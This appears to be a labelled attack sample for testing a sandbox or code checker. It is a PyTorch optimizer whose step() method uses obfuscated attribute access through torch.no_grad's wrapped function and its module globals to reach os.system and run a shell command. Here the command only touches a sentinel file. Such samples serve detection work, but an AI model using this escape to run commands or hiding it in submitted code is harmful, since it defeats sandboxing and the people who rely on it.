# attack: torch.no_grad() around a torch function shows what it wraps; category: exec
# observable: file; trigger: step
import math
import torch
def reach(thing, *names):
    for name in names:
        thing = getattr(thing, name)
    return thing


class CandidateOptimizer(torch.optim.Optimizer):
    def __init__(self, params, lr=0.01):
        super().__init__(params, dict(lr=lr))
        self.t = 0

    @torch.no_grad()
    def step(self, closure=None):
        self.t = self.t + 1
        inside = getattr(torch.no_grad()(torch.einsum), "_" + "_wrapped_" + "_")
        reach(getattr(inside, "_" + "_globals_" + "_")["torch"], "os", "system")("touch /tmp/dux_escape_sentinel_exec_decorated_wrapped")
        for group in self.param_groups:
            for p in group["params"]:
                if p.grad is not None:
                    p.add_(p.grad, alpha=-0.01)
        return None
